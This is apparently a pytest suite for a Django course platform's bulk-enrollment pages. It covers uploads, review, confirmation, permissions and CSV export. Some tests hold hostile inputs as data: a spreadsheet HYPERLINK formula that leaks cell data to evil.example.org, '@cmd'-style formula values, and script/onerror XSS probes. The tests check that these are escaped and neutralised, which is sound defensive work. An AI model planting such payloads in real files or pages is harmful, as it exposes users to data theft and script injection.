"""The Bulk Enroll pages, driven as a person would: upload, review, confirm.

Background work runs inline in tests; it starts when the request's
transaction commits, so each request that starts work runs inside
`run_on_commit()`. Tests that look at a job mid-way skip that and call the
service steps themselves.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook

from karma.accounts.models import Role, User
from karma.accounts.tests.factories import (
    InstructorFactory,
    LearnerFactory,
)
from karma.courses.models import CourseStatus
from karma.courses.tests.factories import CourseFactory, PublishedCourseFactory
from karma.enrollments.models import (
    BulkEnrollmentJob,
    BulkEnrollmentRow,
    BulkJobStatus,
    BulkSource,
    Enrollment,
    EnrollmentStatus,
    RowOutcome,
    UnknownEmailPolicy,
)
from karma.enrollments.services import bulk
from karma.enrollments.services.bulk import apply_job, review_job, start_job
from karma.lib.spreadsheets import read_learner_file

CASES = Path(__file__).resolve().parents[2] / "lib" / "tests" / "cases"
EXISTING, INVITE = "existing", "invite"
CSV_HEADER = ["line", "email", "first_name", "last_name", "outcome", "message"]

# What the cases README expects of each small file: rows that add a
# learner, and the other outcomes by count. case-17 and case-15 have their
# own tests below.
CASE_FILES = {
    "case-01-utf8-bom.csv": (1, {}),
    "case-02-semicolon-delimiter.csv": (2, {}),
    "case-04-utf16le-tab.csv": (2, {}),
    "case-05-header-synonyms.csv": (2, {}),
    "case-07-duplicate-rows.csv": (2, {RowOutcome.DUPLICATE: 2}),
    "case-08-blank-lines.csv": (2, {}),
    "case-09-quoted-fields.csv": (3, {}),
    "case-11-mixed-line-endings.csv": (3, {}),
    "case-13-extra-columns.csv": (3, {}),
    "case-18-formula-injection.csv": (3, {}),
}


# --- Helpers -------------------------------------------------------------------


def case_bytes(name: str) -> bytes:
    return (CASES / name).read_bytes()


def start_url(course) -> str:
    return reverse("enrollments:bulk_start", args=[course.public_id])


def job_url(name: str, job: BulkEnrollmentJob) -> str:
    return reverse(f"enrollments:{name}", args=[job.course.public_id, job.public_id])


def upload(client: Client, course, name: str, data: bytes, policy: str = "skip"):
    return client.post(
        start_url(course),
        {
            "source": "file",
            "upload-file": SimpleUploadedFile(name, data),
            "upload-unknown_emails": policy,
        },
    )


def only_job() -> BulkEnrollmentJob:
    return BulkEnrollmentJob.objects.select_related("course").get()


def shown_counts(html: str) -> dict[str, int]:
    """The counts on top of a review or result, as the page shows them."""
    pattern = r'data-outcome="(\w+)"><span[^>]*>(\d+)</span>'
    return {outcome: int(count) for outcome, count in re.findall(pattern, html)}


def csv_rows(response) -> list[dict[str, str]]:
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == CSV_HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def create_accounts_for(name: str) -> None:
    """Give every valid address of the file a learner account, in lower case."""
    learner_file = read_learner_file(case_bytes(name), max_bytes=10**7)
    emails = {row.email.lower() for row in learner_file.rows if row.is_valid}
    User.objects.bulk_create(
        [
            User(
                email=email,
                first_name="Known",
                last_name="Person",
                activated_at=timezone.now(),
                search_text=f"known person {email}",
            )
            for email in emails
        ]
    )


def added(counts: dict[str, int]) -> int:
    return counts.get(RowOutcome.ENROLLED, 0) + counts.get(RowOutcome.INVITED, 0)


@pytest.fixture
def course(instructor):
    return PublishedCourseFactory(owner=instructor, title="Fire Safety 101")


@pytest.fixture
def run_file(admin_client, course, run_on_commit):
    """Upload, review and confirm one file through the pages."""

    def run(name: str, policy: str, data: bytes | None = None, client=None):
        client = client or admin_client
        before = set(BulkEnrollmentJob.objects.values_list("pk", flat=True))
        with run_on_commit():
            response = upload(client, course, name, data or case_bytes(name), policy)
        job = BulkEnrollmentJob.objects.exclude(pk__in=before).get()
        assert response.status_code == 302
        assert response["Location"] == job_url("bulk_job", job)

        review = client.get(job_url("bulk_job", job))
        with run_on_commit():
            client.post(job_url("bulk_confirm", job))
        result = client.get(job_url("bulk_job", job))
        rows = csv_rows(client.get(job_url("bulk_rows_csv", job)))
        job.refresh_from_db()
        return job, review, result, rows

    return run


# --- Every case file, both runs ------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("mode", [EXISTING, INVITE])
@pytest.mark.parametrize("name", sorted(CASE_FILES))
def test_runs_every_case_file_through_the_pages(name, mode, course, run_file):
    expected_added, others = CASE_FILES[name]
    if mode == EXISTING:
        create_accounts_for(name)
    good = RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED
    policy = UnknownEmailPolicy.SKIP if mode == EXISTING else UnknownEmailPolicy.INVITE

    job, review, result, rows = run_file(name, policy)

    expected = {good: expected_added, **others}
    review_counts = shown_counts(review.content.decode())
    for outcome, count in expected.items():
        assert review_counts[outcome] == count
    assert shown_counts(result.content.decode())[good] == expected_added
    assert Enrollment.objects.filter(course=course).count() == expected_added
    assert [int(row["line"]) for row in rows] == list(
        job.rows.values_list("line", flat=True)
    )
    assert sum(row["outcome"] == good for row in rows) == expected_added
    assert "Download result (CSV)" in result.content.decode()

    again, _, second_result, second_rows = run_file(name, policy)

    assert added(again.counts) == 0
    assert Enrollment.objects.filter(course=course).count() == expected_added
    first_outcomes = {row["line"]: row["outcome"] for row in rows}
    for row in second_rows:
        if first_outcomes[row["line"]] == good:
            assert row["outcome"] == RowOutcome.ALREADY_ENROLLED


@pytest.mark.django_db
def test_review_changes_nothing_before_confirm(admin_client, course, run_on_commit):
    create_accounts_for("case-09-quoted-fields.csv")

    with run_on_commit():
        upload(
            admin_client, course, "case-09.csv", case_bytes("case-09-quoted-fields.csv")
        )
    job = only_job()
    page = admin_client.get(job_url("bulk_job", job))

    assert job.status == BulkJobStatus.READY
    assert shown_counts(page.content.decode())[RowOutcome.ENROLLED] == 3
    assert "Nothing has changed yet" in page.content.decode()
    assert not Enrollment.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("mode", [EXISTING, INVITE])
def test_case_17_result_is_not_shown_as_a_full_success(mode, course, run_file):
    if mode == EXISTING:
        LearnerFactory(email="known.user@example.com")
    policy = UnknownEmailPolicy.SKIP if mode == EXISTING else UnknownEmailPolicy.INVITE

    job, review, result, rows = run_file("case-17-row-report.csv", policy)

    html = result.content.decode()
    counts = shown_counts(html)
    if mode == EXISTING:
        assert (
            counts[RowOutcome.ENROLLED],
            counts[RowOutcome.UNKNOWN],
            counts[RowOutcome.INVALID],
            counts[RowOutcome.DUPLICATE],
        ) == (1, 1, 1, 1)
    else:
        assert counts[RowOutcome.INVITED] == 2
    assert "alert-warning" in html
    assert "alert-success" not in html
    assert "alert-warning" in review.content.decode()
    by_line = {int(row["line"]): row for row in rows}
    assert by_line[4]["outcome"] == RowOutcome.INVALID
    assert "not-an-email" in by_line[4]["message"]
    assert by_line[5]["outcome"] == RowOutcome.DUPLICATE
    assert "line 2" in by_line[5]["message"]


@pytest.mark.django_db
def test_full_success_is_shown_green(course, run_file):
    create_accounts_for("case-01-utf8-bom.csv")

    _, _, result, _ = run_file("case-01-utf8-bom.csv", UnknownEmailPolicy.SKIP)

    assert "alert-success" in result.content.decode()
    assert "alert-warning" not in result.content.decode()


@pytest.mark.django_db
def test_case_18_names_are_stored_verbatim_and_the_csv_is_safe(course, run_file):
    _, _, _, rows = run_file("case-18-formula-injection.csv", UnknownEmailPolicy.INVITE)

    mallory = User.objects.get(email="mallory@example.org")
    assert mallory.first_name == '=HYPERLINK("http://evil.example.org/?d="&A1,"open")'
    eve = User.objects.get(email="eve@example.org")
    assert (eve.first_name, eve.last_name) == ("+SUM(1+1)", "@cmd")
    by_email = {row["email"]: row for row in rows}
    assert by_email["mallory@example.org"]["first_name"] == "'" + mallory.first_name
    assert by_email["eve@example.org"]["first_name"] == "'+SUM(1+1)"
    assert by_email["eve@example.org"]["last_name"] == "'@cmd"
    assert by_email["dan@example.org"]["first_name"].startswith("'-")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.django_db
@pytest.mark.parametrize("mode", [EXISTING, INVITE])
def test_case_15_runs_end_to_end_with_live_progress(mode, admin_client, course):
    name = "case-15-large-file.csv"
    if mode == EXISTING:
        create_accounts_for(name)
    good = RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED
    policy = UnknownEmailPolicy.SKIP if mode == EXISTING else UnknownEmailPolicy.INVITE
    # No run_on_commit: the job waits, as it would for a busy worker, and
    # the test runs each background step while it watches the page.
    upload(admin_client, course, name, case_bytes(name), policy)
    job = only_job()
    status_url = job_url("bulk_job_status", job)

    waiting = admin_client.get(job_url("bulk_job", job)).content.decode()
    seen_reviewing: list[str] = []
    review_job(
        job_id=job.pk,
        progress=lambda done: seen_reviewing.append(
            admin_client.get(status_url).content.decode()
        ),
    )
    review = admin_client.get(job_url("bulk_job", job)).content.decode()

    assert '<progress class="w-100 mb-2" id="bulk-progress" max="10000" value="0"' in (
        waiting
    )
    assert 'hx-trigger="every 1s"' in waiting
    assert "900 of 10000 rows checked" in seen_reviewing[0]
    assert 'hx-trigger="every 1s"' in seen_reviewing[0]
    assert shown_counts(review)[good] == 9_999
    assert shown_counts(review)[RowOutcome.INVALID] == 1
    assert not Enrollment.objects.exists()
    invalid = admin_client.get(job_url("bulk_job", job), {"outcome": "invalid"})
    assert "learner07776.example.com" in invalid.content.decode()
    assert '<th scope="row">7777</th>' in invalid.content.decode()

    admin_client.post(job_url("bulk_confirm", job))
    seen_applying: list[str] = []
    apply_job(
        job_id=job.pk,
        progress=lambda done: seen_applying.append(
            admin_client.get(status_url).content.decode()
        ),
    )
    final = admin_client.get(status_url).content.decode()

    assert "Enrolling" in seen_applying[0]
    assert 'hx-trigger="every 1s"' in seen_applying[0]
    assert "hx-trigger" not in final
    assert shown_counts(final)[good] == 9_999
    assert Enrollment.objects.filter(course=course).count() == 9_999
    rows = csv_rows(admin_client.get(job_url("bulk_rows_csv", job)))
    assert len(rows) == 10_000
    bad = [row for row in rows if row["outcome"] == RowOutcome.INVALID]
    assert [row["line"] for row in bad] == ["7777"]
    assert "learner07776.example.com" in bad[0]["message"]


@pytest.mark.django_db
def test_rows_are_paged_by_100_and_filtered_by_outcome(admin_client, course):
    emails = [f"p{n:03d}@example.com" for n in range(150)]
    LearnerFactory(email="p000@example.com")
    job = start_job(
        course=course,
        started_by=None,
        source=BulkSource.PASTE,
        text="\n".join(emails),
        background=False,
    )
    review_job(job_id=job.pk)

    first = admin_client.get(job_url("bulk_job", job)).content.decode()
    second = admin_client.get(job_url("bulk_job", job), {"page": 2}).content.decode()
    enrolled = admin_client.get(job_url("bulk_job", job), {"outcome": "enrolled"})

    assert first.count('<th scope="row">') == 100
    assert second.count('<th scope="row">') == 50
    assert "Page 2 of 2" in second
    assert enrolled.content.decode().count('<th scope="row">') == 1
    assert "p000@example.com" in enrolled.content.decode()


# --- The three ways in ------------------------------------------------------------


@pytest.mark.django_db
def test_enrolls_pasted_addresses(admin_client, course, run_on_commit):
    ana = LearnerFactory(email="ana@example.com")

    with run_on_commit():
        response = admin_client.post(
            start_url(course),
            {
                "source": "paste",
                "paste-addresses": "ANA@example.com; nobody@x.org bad1 bad2",
            },
        )
    job = only_job()
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", job))

    # All four share line 1: each still gets its own outcome and message.
    assert response.status_code == 302
    job.refresh_from_db()
    assert job.counts[RowOutcome.ENROLLED] == 1
    assert job.counts[RowOutcome.UNKNOWN] == 1
    assert job.counts[RowOutcome.INVALID] == 2
    messages = list(job.rows.order_by("id").values_list("message", flat=True))
    assert "bad1" in messages[2]
    assert "bad2" in messages[3]
    assert Enrollment.objects.get(course=course).learner == ana


@pytest.mark.django_db
def test_refuses_an_empty_paste(admin_client, course):
    response = admin_client.post(
        start_url(course), {"source": "paste", "paste-addresses": ""}
    )

    assert "Paste at least one email address." in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_searches_people_and_keeps_the_chosen(admin_client, course):
    ana = LearnerFactory(first_name="Ana", last_name="Silva", email="ana@example.com")
    LearnerFactory(first_name="Anabel", last_name="Cruz", email="anabel@example.com")
    LearnerFactory(first_name="Gone", email="ana.gone@example.com", is_active=False)
    url = reverse("enrollments:bulk_user_search", args=[course.public_id])

    response = admin_client.get(
        url, {"q": "ana", "pick-user_ids": [ana.public_id]}, HTTP_HX_REQUEST="true"
    )

    html = response.content.decode()
    assert response.status_code == 200
    assert "Chosen (1)" in html
    assert f'value="{ana.public_id}" id="pick-{ana.public_id}" checked' in html
    assert "anabel@example.com" in html
    assert "ana.gone@example.com" not in html
    assert html.count("ana@example.com") == 1


@pytest.mark.django_db
def test_search_without_a_query_lists_nobody(admin_client, course):
    LearnerFactory(email="ana@example.com")
    url = reverse("enrollments:bulk_user_search", args=[course.public_id])

    response = admin_client.get(url, {"q": "  "})

    assert "ana@example.com" not in response.content.decode()


@pytest.mark.django_db
def test_enrolls_chosen_people(admin_client, course, run_on_commit):
    ana, ben = LearnerFactory(), LearnerFactory()

    with run_on_commit():
        admin_client.post(
            start_url(course),
            {"source": "users", "pick-user_ids": [ana.public_id, ben.public_id]},
        )
    job = only_job()
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", job))

    learners = set(
        Enrollment.objects.filter(course=course).values_list("learner", flat=True)
    )
    assert learners == {ana.pk, ben.pk}


@pytest.mark.django_db
def test_refuses_choosing_nobody(admin_client, course):
    response = admin_client.post(start_url(course), {"source": "users"})

    assert "Choose at least one person." in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(("count", "refused"), [(1000, False), (1001, True)])
def test_takes_as_many_chosen_people_as_it_offers(admin_client, course, count, refused):
    # Django refuses a form of more than DATA_UPLOAD_MAX_NUMBER_FIELDS fields
    # with a bare 400 page, before the form could say what the limit is.
    ids = [f"usr_nobody{n}" for n in range(count)]

    response = admin_client.post(
        start_url(course), {"source": "users", "pick-user_ids": ids}
    )

    page = response.content.decode()
    assert response.status_code in (200, 302)
    assert ("Choose at most 1,000 people at once" in page) is refused
    assert BulkEnrollmentJob.objects.exists() is not refused


@pytest.mark.django_db
def test_reports_a_chosen_id_that_names_nobody_by_its_id(
    admin_client, course, run_on_commit
):
    with run_on_commit():
        admin_client.post(
            start_url(course), {"source": "users", "pick-user_ids": ["usr_gone"]}
        )

    row = only_job().rows.get()
    assert (row.outcome, row.message) == (
        RowOutcome.INVALID,
        "No user with id usr_gone",
    )


@pytest.mark.django_db
def test_refuses_too_many_pasted_addresses_as_a_list(admin_client, course, monkeypatch):
    monkeypatch.setattr(bulk, "MAX_LEARNERS", 3)

    response = admin_client.post(
        start_url(course),
        {"source": "paste", "paste-addresses": "a@x.org b@x.org c@x.org d@x.org"},
    )

    page = response.content.decode()
    assert (
        "The list has more than 3 learners. Split it into lists of at most 3." in page
    )
    assert "The file has" not in page
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_reads_an_xlsx_built_here(admin_client, course, run_on_commit):
    LearnerFactory(email="ana@example.com")
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["First name", "Last name", "E-mail"])
    sheet.append(["Ana", "Silva", "ana@example.com"])
    sheet.append(["Ben", "Ode", "ben@example.com"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    with run_on_commit():
        upload(admin_client, course, "learners.xlsx", buffer.getvalue())
    job = only_job()

    assert job.status == BulkJobStatus.READY
    assert job.counts[RowOutcome.ENROLLED] == 1
    assert job.counts[RowOutcome.UNKNOWN] == 1
    assert job.rows.get(line=3).email == "ben@example.com"


# --- Refusals ------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("empty.csv", b"", "empty.csv: The file is empty."),
        ("photo.csv", bytes(range(256)) * 40, "photo.csv: This file is not a"),
        ("names.csv", b"first,last\nAna,Silva\n", "names.csv: No column holds"),
    ],
)
def test_refuses_unreadable_files_with_their_name(
    admin_client, course, name, data, message
):
    response = upload(admin_client, course, name, data)

    html = response.content.decode()
    assert response.status_code == 200
    assert message in html
    assert 'role="alert"' in html
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_no_email_column_lists_the_headers_seen(admin_client, course):
    response = upload(
        admin_client, course, "names.csv", b"first,last\nAna,Silva\nBen,Ode\n"
    )

    assert "The columns found are “first”, “last”" in response.content.decode()


@pytest.mark.django_db
def test_refuses_a_file_over_the_limit_before_reading_it(
    admin_client, course, settings
):
    settings.KARMA_BULK_MAX_MB = 1
    # Just over the limit: the request as a whole still passes the size check.
    data = b"email\n" + b"x" * (1024 * 1024)

    response = upload(admin_client, course, "big.csv", data)

    assert response.status_code == 200
    assert "big.csv: the file is over the limit of 1 MB" in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_refuses_a_50_mb_upload_cleanly(admin_client, course):
    data = b"email\n" + b"a" * (50 * 1024 * 1024)

    response = upload(admin_client, course, "huge.csv", data)

    assert response.status_code == 413
    assert "over the limit of 5 MB" in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_refuses_an_upload_without_a_csrf_token(admin, course):
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin)

    response = upload(client, course, "a.csv", b"email\nana@example.com\n")

    assert response.status_code == 403
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_draft_course_shows_why_and_refuses(admin_client, instructor):
    draft = CourseFactory(owner=instructor, status=CourseStatus.DRAFT)

    page = admin_client.get(start_url(draft))
    response = upload(admin_client, draft, "a.csv", b"email\nana@example.com\n")

    assert "Publish it before enrolling learners" in page.content.decode()
    assert 'name="upload-file"' not in page.content.decode()
    assert "Publish it before enrolling learners" in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


# --- Who may -------------------------------------------------------------------


@pytest.mark.django_db
def test_instructor_of_the_course_runs_a_skip_job(instructor_client, course, run_file):
    LearnerFactory(email="known.user@example.com")

    job, _, result, _ = run_file(
        "case-17-row-report.csv", UnknownEmailPolicy.SKIP, client=instructor_client
    )

    assert job.status == BulkJobStatus.DONE
    assert job.counts[RowOutcome.ENROLLED] == 1
    assert not User.objects.filter(email="unknown.person@example.org").exists()
    assert 'name="upload-unknown_emails" value="invite"' not in (
        instructor_client.get(start_url(course)).content.decode()
    )


@pytest.mark.django_db
def test_instructor_cannot_invite_by_a_forged_post(instructor_client, course):
    response = upload(
        instructor_client,
        course,
        "case-17.csv",
        case_bytes("case-17-row-report.csv"),
        policy=UnknownEmailPolicy.INVITE,
    )

    assert "Only admins can invite people" in response.content.decode()
    assert not BulkEnrollmentJob.objects.exists()


@pytest.mark.django_db
def test_admin_sees_the_invite_choice(admin_client, course):
    page = admin_client.get(start_url(course)).content.decode()

    assert 'value="invite"' in page


@pytest.mark.django_db
def test_instructor_cannot_confirm_an_admins_invite_job(
    admin_client, instructor_client, course, run_on_commit
):
    with run_on_commit():
        upload(
            admin_client,
            course,
            "a.csv",
            b"email\nnew.person@example.com\n",
            UnknownEmailPolicy.INVITE,
        )
    job = only_job()

    response = instructor_client.post(job_url("bulk_confirm", job), follow=True)

    assert "Only admins can invite" in response.content.decode()
    job.refresh_from_db()
    assert job.status == BulkJobStatus.READY
    assert not User.objects.filter(email="new.person@example.com").exists()


@pytest.fixture
def ready_job(course, admin):
    LearnerFactory(email="ana@example.com")
    job = start_job(
        course=course,
        started_by=admin,
        source=BulkSource.PASTE,
        text="ana@example.com\nnew@example.com",
        background=False,
    )
    return review_job(job_id=job.pk)


def every_bulk_request(job):
    course_id = job.course.public_id
    return [
        ("get", reverse("enrollments:bulk_start", args=[course_id]), {}),
        (
            "post",
            reverse("enrollments:bulk_start", args=[course_id]),
            {"source": "paste", "paste-addresses": "ana@example.com"},
        ),  # noqa: E501
        (
            "get",
            reverse("enrollments:bulk_user_search", args=[course_id]),
            {"q": "ana"},
        ),  # noqa: E501
        ("get", job_url("bulk_job", job), {}),
        ("get", job_url("bulk_job_status", job), {}),
        ("get", job_url("bulk_rows_csv", job), {}),
        ("post", job_url("bulk_confirm", job), {}),
        ("post", job_url("bulk_cancel", job), {}),
        ("post", job_url("bulk_policy", job), {"unknown_emails": "invite"}),
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["learner", "other_instructor"])
def test_outsiders_are_refused_everywhere_on_a_visible_course(
    who, learner_client, ready_job, run_on_commit
):
    client = learner_client
    if who == "other_instructor":
        other = InstructorFactory()
        PublishedCourseFactory(owner=other)
        client = Client()
        client.force_login(other)

    for method, url, data in every_bulk_request(ready_job):
        with run_on_commit():
            response = getattr(client, method)(url, data)
        assert response.status_code == 403, url

    assert_nothing_changed(ready_job)


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["learner", "other_instructor"])
def test_outsiders_get_404_on_a_draft_course(who, admin, run_on_commit):
    draft = CourseFactory(status=CourseStatus.DRAFT)
    job = BulkEnrollmentJob.objects.create(
        course=draft, created_by=admin, source=BulkSource.PASTE
    )
    client = Client()
    client.force_login(LearnerFactory() if who == "learner" else InstructorFactory())

    for method, url, data in every_bulk_request(job):
        with run_on_commit():
            response = getattr(client, method)(url, data)
        assert response.status_code == 404, url

    assert BulkEnrollmentJob.objects.get().status == BulkJobStatus.REVIEWING


def assert_nothing_changed(job):
    assert BulkEnrollmentJob.objects.count() == 1
    job.refresh_from_db()
    assert job.status == BulkJobStatus.READY
    assert job.unknown_policy == UnknownEmailPolicy.SKIP
    assert not Enrollment.objects.exists()


@pytest.mark.django_db
def test_signed_out_visitors_are_sent_to_sign_in(client, ready_job):
    for method, url, data in every_bulk_request(ready_job):
        response = getattr(client, method)(url, data)
        assert response.status_code == 302, url
        assert "next=" in response["Location"]

    assert_nothing_changed(ready_job)


@pytest.mark.django_db
def test_a_job_of_another_course_is_not_found(admin_client, ready_job):
    other = PublishedCourseFactory()
    url = reverse("enrollments:bulk_job", args=[other.public_id, ready_job.public_id])
    confirm = reverse(
        "enrollments:bulk_confirm", args=[other.public_id, ready_job.public_id]
    )

    assert admin_client.get(url).status_code == 404
    assert admin_client.post(confirm).status_code == 404
    assert_nothing_changed(ready_job)


@pytest.mark.django_db
def test_co_instructor_may_open_the_job(ready_job, course):
    co = InstructorFactory()
    course.instructor_links.create(instructor=co)
    client = Client()
    client.force_login(co)

    assert client.get(job_url("bulk_job", ready_job)).status_code == 200


# --- Confirm, cancel, policy -----------------------------------------------------


@pytest.mark.django_db
def test_confirming_twice_enrolls_once(admin_client, ready_job, course, run_on_commit):
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", ready_job))
    with run_on_commit():
        second = admin_client.post(job_url("bulk_confirm", ready_job))

    assert second.status_code == 302
    assert Enrollment.objects.filter(course=course).count() == 1
    ready_job.refresh_from_db()
    assert ready_job.status == BulkJobStatus.DONE


@pytest.mark.django_db
def test_cancel_changes_nothing(admin_client, ready_job, run_on_commit):
    with run_on_commit():
        response = admin_client.post(job_url("bulk_cancel", ready_job), follow=True)
    with run_on_commit():
        late = admin_client.post(job_url("bulk_confirm", ready_job), follow=True)

    assert "Nothing was changed" in response.content.decode()
    assert "cannot be confirmed" in late.content.decode()
    ready_job.refresh_from_db()
    assert ready_job.status == BulkJobStatus.CANCELLED
    assert not Enrollment.objects.exists()
    page = admin_client.get(job_url("bulk_job", ready_job)).content.decode()
    assert "Cancelled" in page


@pytest.mark.django_db
def test_a_job_still_being_checked_can_be_cancelled(admin_client, course):
    job = start_job(
        course=course,
        started_by=None,
        source=BulkSource.PASTE,
        text="ana@example.com",
        background=False,
    )

    page = admin_client.get(job_url("bulk_job", job)).content.decode()
    admin_client.post(job_url("bulk_cancel", job))

    assert job_url("bulk_cancel", job) in page
    job.refresh_from_db()
    assert job.status == BulkJobStatus.CANCELLED


@pytest.mark.django_db
def test_a_job_cancelled_while_checked_stays_cancelled(admin_client, course):
    job = start_job(
        course=course,
        started_by=None,
        source=BulkSource.PASTE,
        text="ana@example.com",
        background=False,
    )

    review_job(
        job_id=job.pk,
        progress=lambda done: admin_client.post(job_url("bulk_cancel", job)),
    )

    job.refresh_from_db()
    assert job.status == BulkJobStatus.CANCELLED
    assert not job.rows.exists()


@pytest.mark.django_db
def test_admin_switches_unknown_emails_to_invite(
    admin_client, ready_job, run_on_commit
):
    page = admin_client.get(job_url("bulk_job", ready_job)).content.decode()
    with run_on_commit():
        admin_client.post(
            job_url("bulk_policy", ready_job), {"unknown_emails": "invite"}
        )
    review = admin_client.get(job_url("bulk_job", ready_job)).content.decode()
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", ready_job))

    assert "Review again with this choice" in page
    assert shown_counts(review)[RowOutcome.INVITED] == 1
    assert Enrollment.objects.count() == 2
    invited = User.objects.get(email="new@example.com")
    assert invited.role == Role.LEARNER
    assert invited.activated_at is None


@pytest.mark.django_db
def test_instructor_cannot_switch_to_invite(
    instructor_client, ready_job, run_on_commit
):
    page = instructor_client.get(job_url("bulk_job", ready_job)).content.decode()
    with run_on_commit():
        response = instructor_client.post(
            job_url("bulk_policy", ready_job), {"unknown_emails": "invite"}, follow=True
        )

    assert "Review again with this choice" not in page
    assert "Only admins can invite" in response.content.decode()
    ready_job.refresh_from_db()
    assert ready_job.unknown_policy == UnknownEmailPolicy.SKIP


@pytest.mark.django_db
def test_failed_job_shows_its_error_and_that_nothing_changed(admin_client, course):
    job = BulkEnrollmentJob.objects.create(
        course=course,
        source=BulkSource.PASTE,
        status=BulkJobStatus.FAILED,
        error="This course is archived and takes no new enrollments.",
    )

    html = admin_client.get(job_url("bulk_job", job)).content.decode()

    assert "The bulk enrollment failed" in html
    assert "archived and takes no new enrollments. Nothing was changed." in html


@pytest.mark.django_db
def test_status_stops_polling_once_the_job_is_ready(admin_client, course):
    job = start_job(
        course=course,
        started_by=None,
        source=BulkSource.PASTE,
        text="ana@example.com",
        background=False,
    )
    polling = admin_client.get(job_url("bulk_job_status", job)).content.decode()
    review_job(job_id=job.pk)
    final = admin_client.get(job_url("bulk_job_status", job)).content.decode()

    assert 'hx-trigger="every 1s"' in polling
    assert "Checking the rows" in polling
    assert "hx-trigger" not in final
    assert 'data-outcome="unknown"' in final


@pytest.mark.django_db
def test_polling_does_not_count_as_activity(admin, admin_client, ready_job):
    User.objects.filter(pk=admin.pk).update(last_active_at=None)

    admin_client.get(job_url("bulk_job_status", ready_job))
    polled = User.objects.get(pk=admin.pk).last_active_at
    admin_client.get(job_url("bulk_job", ready_job))

    assert polled is None
    assert User.objects.get(pk=admin.pk).last_active_at is not None


# --- Output ----------------------------------------------------------------------


@pytest.mark.django_db
def test_escapes_markup_from_the_file(admin_client, course, run_on_commit):
    data = (
        b"email,first_name,last_name\n"
        b"<script>alert(1)</script>,<img src=x onerror=alert(2)>,Smith\n"
        b'x@example.com,<b>Bold</b>,"<svg onload=alert(3)>"\n'
    )
    with run_on_commit():
        upload(admin_client, course, "xss.csv", data, UnknownEmailPolicy.INVITE)

    html = admin_client.get(job_url("bulk_job", only_job())).content.decode()

    assert "<script>alert(1)" not in html
    assert "<img src=x" not in html
    assert "<b>Bold</b>" not in html
    assert "<svg onload" not in html
    assert "&lt;script&gt;alert(1)" in html
    assert "&lt;b&gt;Bold&lt;/b&gt;" in html


@pytest.mark.django_db
def test_rows_csv_is_an_attachment_named_after_course_and_job(admin_client, ready_job):
    response = admin_client.get(job_url("bulk_rows_csv", ready_job))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="fire-safety-101-{ready_job.public_id}-review.csv"'
    )
    rows = csv_rows(response)
    assert [(row["line"], row["outcome"]) for row in rows] == [
        ("1", RowOutcome.ENROLLED),
        ("2", RowOutcome.UNKNOWN),
    ]


@pytest.mark.django_db
def test_course_editor_and_learners_tab_link_to_bulk_enroll(instructor_client, course):
    editor = reverse("courses:editor", args=[course.public_id])
    learners = reverse("enrollments:course_learners", args=[course.public_id])

    for url in (editor, learners):
        html = instructor_client.get(url).content.decode()
        assert f'href="{start_url(course)}"' in html


@pytest.mark.django_db
def test_start_page_lists_recent_jobs(admin_client, ready_job, course):
    html = admin_client.get(start_url(course)).content.decode()

    assert job_url("bulk_job", ready_job) in html
    assert "Ready to confirm" in html


@pytest.mark.django_db
def test_bulk_enrolled_learners_are_active_and_mailed_once(
    admin_client, ready_job, run_on_commit, mailoutbox
):
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", ready_job))
    with run_on_commit():
        admin_client.post(job_url("bulk_confirm", ready_job))

    enrollment = Enrollment.objects.get()
    assert enrollment.status == EnrollmentStatus.ACTIVE
    assert [message.to for message in mailoutbox] == [["ana@example.com"]]
    assert BulkEnrollmentRow.objects.filter(job=ready_job).count() == 2
